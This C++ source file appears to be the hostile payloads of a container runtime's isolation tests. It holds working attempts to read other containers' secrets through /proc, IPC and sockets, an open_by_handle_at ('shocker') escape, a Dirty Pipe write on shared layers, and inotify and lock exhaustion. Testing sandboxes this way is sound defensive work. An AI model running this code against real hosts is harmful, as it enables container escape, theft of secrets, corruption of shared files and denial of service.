// Attacks on other containers, and on what they share.
#include <fcntl.h>
#include <ftw.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <csignal>
#include <cstdio>

#include "hostile.hpp"

namespace payload {
namespace {

constexpr const char* secret_mark = "MINIRUN-SECRET";
constexpr key_t secret_key = 0x5ec4e7;

// Has a secret wherever a container can have one.
int hold_secret(const Words&) {
    const std::string secret = secret_mark;
    for (const char* path : {"/tmp/secret", "/dev/shm/secret"})
        if (const int fd = ::open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0666);
            ::write(fd, secret.data(), secret.size()) < 0)
            return 71;
    void* shared = ::shmat(::shmget(secret_key, 4096, IPC_CREAT | 0666), nullptr, 0);
    if (shared == reinterpret_cast<void*>(-1)) return 71;
    std::memcpy(shared, secret.data(), secret.size());
    mq_attr attributes{};
    attributes.mq_maxmsg = 1, attributes.mq_msgsize = 64;
    const mqd_t queue = ::mq_open("/secret", O_RDWR | O_CREAT, 0666, &attributes);
    if (queue < 0 || ::mq_send(queue, secret.data(), secret.size(), 0) < 0) return 71;
    sockaddr_un name{AF_UNIX, "\0secret"};
    const int listening = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (::bind(listening, reinterpret_cast<sockaddr*>(&name), sizeof(sa_family_t) + 7) < 0 ||
        ::listen(listening, 9) < 0)
        return 71;
    sockaddr_in port{AF_INET, htons(17171), {htonl(INADDR_LOOPBACK)}, {}};
    const int served = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (::bind(served, reinterpret_cast<sockaddr*>(&port), sizeof port) < 0 || ::listen(served, 9) < 0) return 71;
    std::puts("ready");
    std::fflush(stdout);
    live_long();
}

// Looks for that of another one.
int spy(const Words&) {
    Tally tally;
    const auto look = [&](const std::string& what, const std::string& path) {
        errno = ENOENT;
        tally(what, contents(path).find(secret_mark) != std::string::npos ? 0 : -1);
    };
    for (int round = 0; round < 3; round++) {
        look("/tmp", "/tmp/secret"), look("/dev/shm", "/dev/shm/secret");
        for (const pid_t pid : visible_processes()) {
            if (pid == ::getpid()) continue;
            const auto process = "/proc/" + text_of(pid);
            look("environment", process + "/environ");
            for (const char* way : {"/root", "/cwd", "/root/proc/1/root", "/root/../../.."})
                look("root", process + way + "/tmp/secret");
        }
        const int id = ::shmget(secret_key, 0, 0);
        void* shared = id < 0 ? reinterpret_cast<void*>(-1) : ::shmat(id, nullptr, SHM_RDONLY);
        tally("shared memory", shared == reinterpret_cast<void*>(-1) ? -1 : 0);
        for (int each = 0; each < 64; each++)
            if (void* at = ::shmat(each, nullptr, SHM_RDONLY); at != reinterpret_cast<void*>(-1))
                tally("shared memory", 0), ::shmdt(at);
        tally("queue", ::mq_open("/secret", O_RDONLY | O_NONBLOCK));
        tally("/dev/mqueue", ::open("/dev/mqueue/secret", O_RDONLY | O_CLOEXEC));
        sockaddr_un name{AF_UNIX, "\0secret"};
        tally("abstract socket", ::connect(::socket(AF_UNIX, SOCK_STREAM, 0), reinterpret_cast<sockaddr*>(&name),
                                           sizeof(sa_family_t) + 7));
        errno = ENOENT;
        tally("/proc/net/unix", contents("/proc/net/unix").find("@secret") != std::string::npos ? 0 : -1);
        sockaddr_in port{AF_INET, htons(17171), {htonl(INADDR_LOOPBACK)}, {}};
        tally("port", ::connect(::socket(AF_INET, SOCK_STREAM, 0), reinterpret_cast<sockaddr*>(&port), sizeof port));
        // As "shocker" did: the root of the file system below is a small number.
        for (const char* anchor : {"/", "/etc/hosts", "/dev/shm", "/bin/busybox"})
            for (const unsigned inode : {1U, 2U, 64U, 128U, 256U}) {
                struct {
                    unsigned bytes;
                    int type;
                    unsigned words[4];
                } handle{8, 1, {inode, 0, 0, 0}};
                tally("open_by_handle_at",
                      ::syscall(SYS_open_by_handle_at, ::open(anchor, O_RDONLY | O_CLOEXEC), &handle, O_RDONLY));
            }
    }
    return tally.verdict();
}

// As much as one user may have of what the kernel counts by user.
int hoard(const Words&) {
    long taken = 0;
    while (taken < 1000 && ::inotify_init1(IN_CLOEXEC) >= 0) taken++;
    std::printf("ready with %ld\n", taken);
    std::fflush(stdout);
    live_long();
}

// The files of the shared layers.
Words layer_files;
int collect(const char* path, const struct stat* status, int type, FTW*) {
    if (type == FTW_F && S_ISREG(status->st_mode)) layer_files.emplace_back(path);
    return 0;
}

// Locks and leases on all of them, held for ever.
int lock_all(const Words&) {
    std::signal(SIGIO, SIG_IGN);  // somebody wants one of its leases
    for (const char* top : {"/bin", "/etc", "/home"}) ::nftw(top, collect, 16, FTW_PHYS);
    long taken = 0;
    for (const auto& path : layer_files) {
        // One descriptor for each: a second one would wait for the lease of the first.
        const bool read_only = path.starts_with("/bin");
        const int fd = ::open(path.c_str(), (read_only ? O_RDONLY : O_RDWR) | O_CLOEXEC | O_NONBLOCK);
        if (fd < 0) continue;
        struct flock whole {};
        whole.l_type = read_only ? F_RDLCK : F_WRLCK;
        taken += ::flock(fd, LOCK_EX | LOCK_NB) == 0;
        taken += ::fcntl(fd, F_SETLK, &whole) == 0;
        taken += ::fcntl(fd, F_SETLEASE, read_only ? F_RDLCK : F_WRLCK) == 0;
    }
    for (const char* directory : {"/", "/bin", "/etc"})
        taken += ::flock(::open(directory, O_RDONLY | O_CLOEXEC), LOCK_EX | LOCK_NB) == 0;
    std::printf("ready with %ld locks\n", taken);
    std::fflush(stdout);
    live_long();
}

// Changes all of them, by every way that there is to a file, and looks whether it is changed.
int change_layers(const Words&) {
    for (const char* top : {"/bin", "/etc", "/home"}) ::nftw(top, collect, 16, FTW_PHYS);
    long changed = 0;
    for (const auto& path : layer_files) {
        // A read-only descriptor from before the copy-up, through which nothing may be written either.
        const int before = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
        int ends[2];
        if (::pipe2(ends, O_CLOEXEC) == 0) {
            // Dirty Pipe: what is spliced into a pipe is the layer's page, and must not be written to.
            const std::string block(65536, 'x');
            char sink[65536];
            if (::write(ends[1], block.data(), 65536) == 65536 && ::read(ends[0], sink, sizeof sink) == 65536) {
                off64_t at = 0;
                if (::splice(before, &at, ends[1], nullptr, 1, 0) == 1 && ::write(ends[1], "hostile", 7) == 7)
                    changed++;
            }
            ::close(ends[0]), ::close(ends[1]);
        }
        ::chmod(path.c_str(), 0777), ::chown(path.c_str(), 1000, 1000), ::removexattr(path.c_str(), "user.x");
        ::setxattr(path.c_str(), "user.hostile", "y", 1, 0);
        const int again = ::open(("/proc/self/fd/" + text_of(before)).c_str(), O_RDWR | O_CLOEXEC);
        const int fd = ::open(path.c_str(), O_RDWR | O_CLOEXEC);
        for (const int each : {before, again, fd}) {
            if (each < 0) continue;
            changed += ::pwrite(each, "hostile", 7, 0) == 7;
            void* at = ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, each, 0);
            if (at != MAP_FAILED)
                std::memcpy(at, "HOSTILE", 7), ::msync(at, 4096, MS_SYNC), ::munmap(at, 4096), changed++;
            ::fallocate(each, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096);
        }
        ::link(path.c_str(), (path + "-linked").c_str()), ::rename(path.c_str(), (path + "-moved").c_str()),
            ::truncate((path + "-moved").c_str(), 0);
        for (const int each : {before, again, fd})
            if (each >= 0) ::close(each);
    }
    std::printf("%ld changes in %zu files\n", changed, layer_files.size());
    return layer_files.empty() || changed == 0 ? nothing_tried : 0;
}

constexpr Program programs[] = {
    {"hold-secret", hold_secret, 0},     {"spy", spy, 0}, {"hoard", hoard, 0}, {"lock-all", lock_all, 0},
    {"change-layers", change_layers, 0},
};

}  // namespace

std::span<const Program> attacks_on_neighbours() { return programs; }

}  // namespace payload
